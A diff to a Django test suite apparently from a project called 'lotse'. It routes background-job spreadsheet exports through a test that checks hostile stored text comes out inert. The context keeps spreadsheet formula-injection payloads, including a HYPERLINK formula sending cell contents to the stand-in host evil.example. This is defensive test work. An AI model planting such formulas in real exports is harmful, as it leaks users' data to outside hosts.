@@ -26,6 +26,7 @@ import pytest
 from django.apps import apps
 from django.db import DatabaseError, models, transaction
 from django.db.models.functions import Cast, Concat
+from django.urls import resolve, reverse
 from openpyxl import load_workbook
 
 from lotse.conftest import client_for
@@ -39,6 +40,7 @@ from lotse.core.export import (
     streaming_workbook,
     workbook_bytes,
 )
+from lotse.core.testing import run_jobs
 from lotse.core.tests.test_url_matrix import PERSONAS, Urls, allowed_methods, url_patterns
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Klick")'
@@ -48,6 +50,8 @@ HOSTILE = (HYPERLINK, "+evil()", "-evil()", "@evil()", "\t=evil()", "\r=evil()",
 PDF_DOWNLOADS = {"cases:plan_pdf", "network:case_info_sheet", "network:sheet_pdf", "reports:pdf"}
 # Spreadsheets that carry no stored text: the blank import templates and the documented example.
 WITHOUT_STORED_TEXT = {"imports:template", "imports:example"}
+# Files written by a background job (lotse.core.downloads): the file's URL, and where it is asked for.
+PREPARED_IN_BACKGROUND = {"imports:export_file": "imports:export"}
 SPREADSHEET_TYPES = {
     "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet": "xlsx",
     "text/csv; charset=utf-8": "csv",
@@ -143,7 +147,7 @@ def persona_for(urls: Urls, request: pytest.FixtureRequest, name: str) -> Any:
 def test_it_finds_the_downloads_of_the_url_map():
     found = set(downloads())
     assert found >= PDF_DOWNLOADS | WITHOUT_STORED_TEXT
-    assert found >= {"imports:export", "network:actor_export", "reports:csv", "accommodation:resident_list_xlsx"}
+    assert found >= {"imports:export_file", "network:actor_export", "reports:csv", "accommodation:resident_list_xlsx"}
 
 
 @pytest.mark.django_db
@@ -155,7 +159,12 @@ def test_it_writes_stored_text_as_inert_text_in_every_spreadsheet_download(
     stored = make_text_hostile()
     client = client_for(user)
     methods = allowed_methods(url_patterns()[name].callback)
-    if methods is not None and "GET" not in methods:
+    if name in PREPARED_IN_BACKGROUND:
+        # Asked for on one page, written by a background job, fetched from its own page when ready.
+        asked = client.post(reverse(PREPARED_IN_BACKGROUND[name]), {})
+        run_jobs()
+        response = client.get(reverse(name, kwargs=resolve(asked["Location"]).kwargs))
+    elif methods is not None and "GET" not in methods:
         response = client.post(urls.url(name), {})
     else:
         response = client.get(urls.url(name), {})
